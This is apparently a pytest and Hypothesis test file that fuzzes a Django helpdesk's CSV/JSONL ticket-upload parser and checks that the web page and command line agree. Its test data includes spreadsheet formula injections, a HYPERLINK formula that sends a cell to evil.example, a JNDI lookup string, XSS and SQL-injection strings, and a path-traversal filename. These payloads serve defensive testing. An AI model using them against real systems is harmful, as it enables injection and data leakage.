"""Upload fuzzing: random and adversarial ticket files get a clear answer.

* The parser, fed generated batches with one injected fault each (bad
  encoding, NUL bytes, ragged rows, stray quotes, over-long fields, bad
  e-mails, duplicate ids, broken JSON...), rejects the file, creates nothing,
  and names the row and column of exactly that fault. Adversarial but valid
  text (spreadsheet formulas, right-to-left overrides, emoji, markup) is
  accepted and stored exactly as written (it is neutralised on the way out,
  not on the way in).
* The upload page and `manage.py upload` agree on every generated file: the
  same accept/reject and the same error strings, and the same items.
* 100k rows and 1 MB fields are refused quickly, by the row cap and the field
  limits, with row and column.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from dataclasses import dataclass, field

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from ticketagent.models import Event, Item, Task
from ticketagent.upload.parse import parse_batch
from ticketagent.upload.rows import ALL_COLUMNS, FIELD_LIMITS, PRIORITIES, REQUIRED_COLUMNS, RowError

from ..conftest import ROOT, database_url

ADVERSARIAL_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'B1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\tleading tab then =1+1",
    "\u202eevil.exe\u202c gnp.txt",
    "مرحبا، لدي مشكلة في الفاتورة",
    "שלום, יש לי בעיה",
    "😀👍🏽🇩🇪 👨‍👩‍👧‍👦 refund please",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">x</a>',
    '"quoted", with, commas',
    'a "stray" quote and a lone " one',
    "line one\nline two\r\nline three\rline four",
    "zero\u200bwidth\u200djoiner and \u2028 line separator inside",
    "{{ request.user }} {% debug %} ${jndi:ldap://evil.example/a}",
    "Robert'); DROP TABLE items;--",
]
ADVERSARIAL_EMAILS = ["ann@example.com", "=1+1@example.com", "+cmd@example.com", "-x@example.com",
                      "o'brien@example.com", "x@xn--exmple-cua.com"]
LANGUAGES = ["", "en", "ar", "he", "de-CH", "zh-Hant", "und"]

TEXT = st.one_of(
    st.sampled_from(ADVERSARIAL_TEXT),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=40),
).filter(lambda s: s.strip())

METADATA = st.dictionaries(
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=8),
    st.one_of(st.integers(-10**6, 10**6), st.booleans(), st.none(), st.sampled_from(ADVERSARIAL_TEXT)),
    max_size=3,
)


@st.composite
def ticket_rows(draw, min_rows=1, max_rows=6):
    n = draw(st.integers(min_rows, max_rows))
    prefix = draw(st.from_regex(r"[A-Za-z0-9._:/#-]{1,10}", fullmatch=True))
    rows = []
    for i in range(n):
        rows.append({
            "ticket_id": f"{prefix}-{i}",
            "customer_email": draw(st.sampled_from(ADVERSARIAL_EMAILS)),
            "customer_name": draw(st.one_of(st.just(""), TEXT)),
            "subject": draw(TEXT),
            "body": draw(TEXT),
            "priority": draw(st.sampled_from(["", *PRIORITIES, "HIGH", " Urgent "])),
            "language": draw(st.sampled_from(LANGUAGES)),
            "metadata": draw(METADATA),
        })
    return rows


# --------------------------------------------------------------------------- building files


@dataclass
class Batch:
    fmt: str  # csv | jsonl
    rows: list[dict]
    columns: tuple = ALL_COLUMNS
    newline: str = "\n"
    bom: bool = False
    raw_lines: dict = field(default_factory=dict)  # data row index -> replacement line (already serialized)
    extra: dict = field(default_factory=dict)  # data row index -> "ragged" | "short"

    @property
    def filename(self) -> str:
        return f"batch.{self.fmt}"

    def first_row_number(self) -> int:
        return 2 if self.fmt == "csv" else 1  # CSV: the header is row 1

    def data(self) -> bytes:
        text = self._csv() if self.fmt == "csv" else self._jsonl()
        return (b"\xef\xbb\xbf" if self.bom else b"") + text.encode("utf-8")

    def _csv(self) -> str:
        def line(values):
            # "\r\n" makes the writer quote a field with a lone "\r" too (with "\n" it would not)
            buf = io.StringIO()
            csv.writer(buf, lineterminator="\r\n").writerow(values)
            return buf.getvalue()[:-2] + self.newline

        out = [line(self.columns)]
        for i, row in enumerate(self.rows):
            if i in self.raw_lines:
                out.append(self.raw_lines[i] + self.newline)
                continue
            values = [_csv_cell(row.get(c, "")) for c in self.columns]
            if self.extra.get(i) == "ragged":
                values.append("extra")
            elif self.extra.get(i) == "short":
                values.pop()
            out.append(line(values))
        return "".join(out)

    def _jsonl(self) -> str:
        out = []
        for i, row in enumerate(self.rows):
            if i in self.raw_lines:
                out.append(self.raw_lines[i])
                continue
            obj = {c: v for c, v in row.items() if v not in ("", {}) or c in REQUIRED_COLUMNS}
            # A Latin-1 file must carry its "é" as a byte, not escaped as \u00e9 (which is plain ASCII).
            out.append(json.dumps(obj, ensure_ascii=i % 2 == 0 and not getattr(self, "latin1", False)))
        return self.newline.join(out) + self.newline


def _csv_cell(value) -> str:
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False) if value else ""
    return str(value)


def expected_rows(rows: list[dict]) -> list[tuple]:
    def norm(v):
        return v.strip().replace("\r\n", "\n").replace("\r", "\n")

    return [(r["ticket_id"], r["customer_email"].strip(), r["customer_name"].strip(), norm(r["subject"]),
             norm(r["body"]), r["priority"].strip().lower() or "normal", r["language"].strip(), r["metadata"])
            for r in rows]


def parsed_rows(rows) -> list[tuple]:
    return [(r.ticket_id, r.customer_email, r.customer_name, r.subject, r.body, r.priority, r.language, r.metadata)
            for r in rows]


# --------------------------------------------------------------------------- faults


@dataclass
class Fault:
    kind: str
    row: int | None  # as the person counts it; None: the whole file
    column: str | None
    fragment: str  # a piece of the expected message


TEXT_COLUMNS = ("ticket_id", "customer_email", "customer_name", "subject", "body", "language")


@st.composite
def faulty_batch(draw) -> tuple[Batch, Fault, dict]:
    """A generated batch with exactly one fault; returns (batch, fault, parse kwargs)."""
    fmt = draw(st.sampled_from(["csv", "jsonl"]))
    rows = draw(ticket_rows())
    batch = Batch(fmt, rows, columns=tuple(draw(st.permutations(ALL_COLUMNS))),
                  newline=draw(st.sampled_from(["\n", "\r\n"])), bom=draw(st.booleans()))
    i = draw(st.integers(0, len(rows) - 1))
    row_no = batch.first_row_number() + i
    kinds = ["nul", "too_long", "empty_required", "bad_email", "bad_priority", "bad_ticket_id", "bad_metadata",
             "too_many_rows", "too_big", "latin1", "utf16"]
    kinds += ["ragged", "short", "stray_quote"] if fmt == "csv" else ["bad_json", "not_object", "unknown_key",
                                                                      "wrong_type"]
    if len(rows) > 1 and i > 0:
        kinds.append("dup_ticket_id")
    kind = draw(st.sampled_from(kinds))
    kwargs: dict = {}
    row = rows[i]
    if kind == "nul":
        column = draw(st.sampled_from(TEXT_COLUMNS))
        row[column] = (row[column] or "x") + "\x00" + "tail"
        fault = Fault(kind, row_no, column, "NUL byte")
    elif kind == "too_long":
        column = draw(st.sampled_from(sorted(FIELD_LIMITS)))
        n = FIELD_LIMITS[column] + draw(st.integers(1, 50))
        row[column] = ("a" * (n - len("@example.com")) + "@example.com") if column == "customer_email" else "T" * n
        fault = Fault(kind, row_no, column, f"is {n:,} characters long; the limit is {FIELD_LIMITS[column]:,}")
    elif kind == "empty_required":
        column = draw(st.sampled_from(REQUIRED_COLUMNS))
        row[column] = draw(st.sampled_from(["", "   ", "\t"]))
        fault = Fault(kind, row_no, column, "is required but is empty")
    elif kind == "bad_email":
        row["customer_email"] = draw(st.sampled_from(["not-an-email", "bob@", "@example.com", "a b@example.com",
                                                      "<script>@example.com", "=HYPERLINK(1)"]))
        fault = Fault(kind, row_no, "customer_email", "is not a valid email address")
    elif kind == "bad_priority":
        row["priority"] = draw(st.sampled_from(["whenever", "=1+1", "P1"]))
        fault = Fault(kind, row_no, "priority", "is not one of")
    elif kind == "bad_ticket_id":
        row["ticket_id"] = draw(st.sampled_from(["=HYPERLINK(1)", "a b", "<script>", "T\u202e1", "😀"]))
        fault = Fault(kind, row_no, "ticket_id", "contains characters that are not allowed")
    elif kind == "dup_ticket_id":
        row["ticket_id"] = rows[0]["ticket_id"]
        fault = Fault(kind, row_no, "ticket_id", "duplicate ticket_id")
    elif kind == "bad_metadata":
        if fmt == "csv":
            row["metadata"] = draw(st.sampled_from(['{"plan": ', "[1, 2]", '{"a": 1, "a": 2}', '{"x": NaN}',
                                                    "=HYPERLINK(1)"]))
        else:
            row["metadata"] = draw(st.sampled_from([[1, 2], "a string", 42]))
        fault = Fault(kind, row_no, "metadata", "metadata")
    elif kind == "unknown_key":
        row["prority"] = "high"
        fault = Fault(kind, row_no, "prority", "unknown key")
    elif kind == "wrong_type":
        row["body"] = draw(st.sampled_from([123, ["a"], {"b": 1}, True]))
        fault = Fault(kind, row_no, "body", "body must be a string")
    elif kind in ("ragged", "short"):
        batch.extra[i] = kind
        fault = Fault(kind, row_no, None, "fields but the header has")
    elif kind == "stray_quote":
        # the rest of the row on one physical line, so the reader resumes cleanly at the next row
        simple = {"ticket_id": row["ticket_id"], "customer_email": "ann@example.com", "subject": "@@SUBJECT@@",
                  "body": "body", "customer_name": "", "priority": "", "language": "", "metadata": "",
                  "expected_category": "", "expected_priority": "", "expected_actions": "", "expected_status": ""}
        batch.raw_lines[i] = ",".join(simple[c] for c in batch.columns).replace("@@SUBJECT@@", '"Hi" there')
        fault = Fault(kind, row_no, None, "stray quote")
    elif kind == "bad_json":
        batch.raw_lines[i] = json.dumps({c: v for c, v in row.items() if c != "metadata"})[:-1]
        fault = Fault(kind, row_no, None, "not valid JSON")
    elif kind == "not_object":
        batch.raw_lines[i] = draw(st.sampled_from(["[1, 2]", '"a string"', "42", "null"]))
        fault = Fault(kind, row_no, None, "must be a JSON object")
    elif kind == "too_many_rows":
        kwargs["max_rows"] = len(rows) - 1 if len(rows) > 1 else 1
        if len(rows) == 1:
            rows.append({**rows[0], "ticket_id": rows[0]["ticket_id"] + "-b"})
        fault = Fault(kind, None, None, f"file has {len(rows):,} data row")
    elif kind == "too_big":
        kwargs["max_bytes"] = len(batch.data()) - 1
        fault = Fault(kind, None, None, "the limit is")
    elif kind == "latin1":
        row["subject"] = "Caf\u00e9"
        batch.latin1 = True
        fault = Fault(kind, None, None, "not valid UTF-8")
    elif kind == "utf16":
        batch.utf16 = True
        fault = Fault(kind, None, None, "UTF-16")
    else:  # pragma: no cover
        raise AssertionError(kind)
    return batch, fault, kwargs


def encoded(batch: Batch) -> bytes:
    data = batch.data()
    if getattr(batch, "latin1", False):
        return data.decode("utf-8").encode("cp1252", "replace")
    if getattr(batch, "utf16", False):
        return data.decode("utf-8").encode("utf-16")
    return data


FIELD_SUBJECT = re.compile(r"^(ticket_id|customer_email|customer_name|subject|body|priority|language|metadata)\b")


def assert_errors_are_located(errors: list[RowError]) -> None:
    """Every error says where: about a field -> row and column; about a row -> row; else the file."""
    for e in errors:
        if e.row is None:
            assert e.column is None, e
        match = FIELD_SUBJECT.match(e.message)
        if match or "is not a valid email address" in e.message or e.message.startswith("contains "):
            assert e.row is not None and e.column is not None, f"a field error without its place: {e}"
            if match:
                assert e.column == match.group(1), e
        if e.row is not None and e.column is not None:
            assert str(e).startswith(f"row {e.row}, column {e.column}: "), str(e)
        elif e.row is not None:
            assert str(e).startswith(f"row {e.row}: "), str(e)


# --------------------------------------------------------------------------- the parser


@hsettings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=faulty_batch())
def test_one_fault_is_reported_at_its_row_and_column_and_nothing_else(case):
    batch, fault, kwargs = case
    data = encoded(batch)
    result = parse_batch(data, batch.filename, **kwargs)
    assert result.rows == [] and not result.ok, f"{fault.kind} was accepted"
    assert_errors_are_located(result.errors)
    places = [(e.row, e.column) for e in result.errors]
    assert (fault.row, fault.column) in places, (fault, result.errors)
    assert all(row == fault.row for row, _ in places), f"{fault.kind}: errors elsewhere too: {result.errors}"
    [error] = [e for e in result.errors if (e.row, e.column) == (fault.row, fault.column)][:1]
    assert fault.fragment in error.message, (fault, error)
    assert "internal error" not in error.message


@hsettings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=ticket_rows(), fmt=st.sampled_from(["csv", "jsonl"]), newline=st.sampled_from(["\n", "\r\n"]),
       bom=st.booleans(), columns=st.permutations(ALL_COLUMNS))
def test_adversarial_but_valid_text_is_accepted_exactly(rows, fmt, newline, bom, columns):
    """Formulas, RTL overrides, emoji, markup, quotes, newlines: ticket text, stored as written."""
    batch = Batch(fmt, rows, columns=tuple(columns), newline=newline, bom=bom)
    result = parse_batch(batch.data(), batch.filename)
    assert result.ok, result.errors
    assert parsed_rows(result.rows) == expected_rows(rows)
    assert [r.row for r in result.rows] == [batch.first_row_number() + i for i in range(len(rows))]


@hsettings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(
    st.binary(max_size=400),
    st.text(max_size=300).map(lambda t: t.encode("utf-8", "surrogatepass")),
    st.lists(st.sampled_from(["ticket_id,customer_email,subject,body", "ticket_id,ticket_id,body", '"', '""', ",",
                              "\x00", "\n", "\r\n", "=HYPERLINK(1)", "T-1,a@example.com,s,b", "{", "}", '{"ticket_id":',
                              "\u202e", "😀", "\xff"]), max_size=30).map(lambda p: "".join(p).encode("utf-8",
                                                                                                   "surrogatepass")),
), filename=st.sampled_from(["t.csv", "t.jsonl", "t.ndjson", "t", "t.xlsx", "../../etc/passwd.csv"]))
def test_random_bytes_never_raise_and_every_error_says_where(data, filename):
    result = parse_batch(data, filename, max_errors=50)
    assert bool(result.rows) != bool(result.errors)
    assert_errors_are_located(result.errors)


def test_duplicate_headers_and_formula_headers_are_header_errors():
    dup = parse_batch(b"ticket_id,customer_email,subject,body,Body\nT-1,a@example.com,s,b,c\n", "t.csv")
    assert [(e.row, e.column) for e in dup.errors] == [(1, None)]
    assert dup.errors[0].message == "duplicate column in the header: body"
    formula = parse_batch(b'ticket_id,customer_email,subject,body,"=HYPERLINK(""x"")"\nT-1,a@example.com,s,b,c\n',
                          "t.csv")
    assert [(e.row, e.column) for e in formula.errors] == [(1, None)]
    assert "unknown column: '=hyperlink(\"x\")'" in formula.errors[0].message


# --------------------------------------------------------------------------- limits: 100k rows, 1 MB fields

def _hundred_thousand_rows() -> bytes:
    lines = ["ticket_id,customer_email,subject,body"]
    lines += [f"T-{i},c{i}@example.com,Subject {i},Body {i}" for i in range(100_000)]
    return ("\n".join(lines) + "\n").encode()


def post_file(client, data: bytes, name: str):
    return client.post(reverse("upload"), {"file": SimpleUploadedFile(name, data), "notify_channel": "helpdesk",
                                           "failure_threshold": 3})


@pytest.mark.django_db
def test_a_100k_row_file_is_refused_by_the_row_cap_without_validating_past_it(client, alice, settings, monkeypatch):
    """The rows past the cap are counted, never validated: the refusal costs a count, not 100,000 validations
    (how long it takes is the bench's to measure, not a test's)."""
    from ticketagent.upload.validate import RowValidator

    assert settings.UPLOAD_MAX_ROWS == 50_000
    validated = []
    real = RowValidator.validate
    monkeypatch.setattr(RowValidator, "validate", lambda self, *args, **kw: validated.append(1) or real(self, *args,
                                                                                                         **kw))
    client.force_login(alice)
    data = _hundred_thousand_rows()
    assert len(data) < settings.UPLOAD_MAX_BYTES
    response = post_file(client, data, "big.csv")
    assert response.status_code == 400
    assert response.context["errors"] == [
        "file: file has 100,000 data rows; the limit is 50,000 - split it into smaller batches"]
    assert 0 < len(validated) <= settings.UPLOAD_MAX_ROWS, "no row past the cap is validated"
    assert Task.objects.count() == Item.objects.count() == Event.objects.count() == 0


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("column", ["body", "subject", "customer_name"])
def test_a_1mb_field_is_refused_by_the_field_limit_with_row_and_column(client, alice, fmt, column):
    client.force_login(alice)
    row = {"ticket_id": "T-1", "customer_email": "a@example.com", "subject": "s", "body": "b", "customer_name": "n"}
    row[column] = "=" + "x" * (1024 * 1024)
    if fmt == "csv":
        buf = io.StringIO()
        writer = csv.writer(buf)
        writer.writerow(row)
        writer.writerow(row.values())
        data = buf.getvalue().encode()
    else:
        data = (json.dumps(row) + "\n").encode()
    response = post_file(client, data, f"big.{fmt}")
    assert response.status_code == 400
    first_row = 2 if fmt == "csv" else 1
    assert response.context["errors"] == [
        f"row {first_row}, column {column}: {column} is 1,048,577 characters long; "
        f"the limit is {FIELD_LIMITS[column]:,}"]
    assert Task.objects.count() == Item.objects.count() == 0


# --------------------------------------------------------------------------- web == CLI


def web_upload(client, data: bytes, name: str) -> tuple[bool, list[str]]:
    response = post_file(client, data, name)
    assert response.status_code in (302, 400), f"no 500, no surprises: {response.status_code}"
    if response.status_code == 302:
        return True, []
    errors = response.context["errors"]
    html = response.content.decode()
    from django.utils.html import escape

    for e in errors:
        assert escape(e) in html, f"the page does not show {e!r}"
    assert "nothing was created" in html
    return False, errors


def cli_upload(tmp_path, data: bytes, name: str) -> tuple[bool, list[str]]:
    path = tmp_path / name
    path.write_bytes(data)
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("upload", str(path), stdout=out, stderr=err)
    except CommandError as exc:
        assert str(exc).endswith("; nothing was created"), str(exc)
        lines = err.getvalue().splitlines()
        assert all(line.startswith(f"{name}: ") for line in lines), lines
        assert f"{len(lines)} error(s)" in str(exc)
        return False, [line[len(name) + 2:] for line in lines]
    assert "created with" in out.getvalue()
    return True, []


def items_of(task) -> list[tuple]:
    return [(i.row, i.ticket_id, i.customer_email, i.customer_name, i.subject, i.body, i.priority, i.language,
             i.metadata) for i in task.items.order_by("row")]


@st.composite
def any_batch(draw) -> tuple[bytes, str]:
    if draw(st.booleans()):
        batch, _, _ = draw(faulty_batch())  # (the caps are settings here: those two kinds come out valid)
        return encoded(batch), batch.filename
    fmt = draw(st.sampled_from(["csv", "jsonl"]))
    batch = Batch(fmt, draw(ticket_rows()), columns=tuple(draw(st.permutations(ALL_COLUMNS))))
    return batch.data(), batch.filename


@pytest.mark.django_db
@hsettings(max_examples=40, deadline=None,
           suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(case=any_batch())
def test_the_upload_page_and_the_command_agree(client, alice, tmp_path, settings, case):
    settings.RATE_LIMIT_UPLOADS_PER_MINUTE = 100_000
    settings.RATE_LIMIT_ACTIONS_PER_MINUTE = 100_000
    client.force_login(alice)
    data, name = case
    before = set(Task.objects.values_list("pk", flat=True))
    web_ok, web_errors = web_upload(client, data, name)
    web_tasks = set(Task.objects.values_list("pk", flat=True)) - before
    cli_ok, cli_errors = cli_upload(tmp_path, data, name)
    cli_tasks = set(Task.objects.values_list("pk", flat=True)) - before - web_tasks
    assert web_ok == cli_ok, (web_errors, cli_errors)
    assert web_errors == cli_errors
    assert len(web_tasks) == len(cli_tasks) == (1 if web_ok else 0), "nothing partial, nothing twice"
    if web_ok:
        [w], [c] = web_tasks, cli_tasks
        assert items_of(Task.objects.get(pk=w)) == items_of(Task.objects.get(pk=c))
    else:
        assert not Item.objects.exclude(task__in=before).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("case", ["oversized", "empty"])
def test_the_page_and_the_command_agree_on_oversized_and_empty_files(client, alice, tmp_path, settings, case):
    settings.UPLOAD_MAX_BYTES = 100
    client.force_login(alice)
    data = b"" if case == "empty" else Batch("csv", [
        {"ticket_id": f"T-{i}", "customer_email": "a@example.com", "customer_name": "", "subject": "s",
         "body": "b" * 20, "priority": "", "language": "", "metadata": {}} for i in range(5)]).data()
    cli = cli_upload(tmp_path, data, "big.csv")
    assert cli[0] is False and cli[1]
    assert web_upload(client, data, "big.csv") == cli


def test_the_real_command_line_prints_the_same_errors_as_the_page(client, alice, tmp_path, db):
    """`python manage.py upload` in a process of its own: exit status 1, one line per error."""
    client.force_login(alice)
    blob = (b"ticket_id,customer_email,subject,body\n"
            b"T-1,bob@,=HYPERLINK(\"x\"),body\n"
            b'T-2,ann@example.com,"Hi" there,body\n'
            b"T-1,ann@example.com,s,b\x00\n"
            b"T-3,ann@example.com,s\n")
    ok, web_errors = web_upload(client, blob, "bad.csv")
    assert not ok and len(web_errors) == 5  # row 4 has two: the duplicate id and the NUL byte
    path = tmp_path / "bad.csv"
    path.write_bytes(blob)
    proc = subprocess.run([sys.executable, "manage.py", "upload", str(path)], cwd=ROOT, capture_output=True,
                          text=True, timeout=60, env={**_env(), "DATABASE_URL": database_url()})
    assert proc.returncode == 1, proc.stderr
    lines = [line for line in proc.stderr.splitlines() if line.startswith("bad.csv: ")]
    assert [line[len("bad.csv: "):] for line in lines] == web_errors
    assert "nothing was created" in proc.stderr


def _env() -> dict:
    import os

    return {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"}
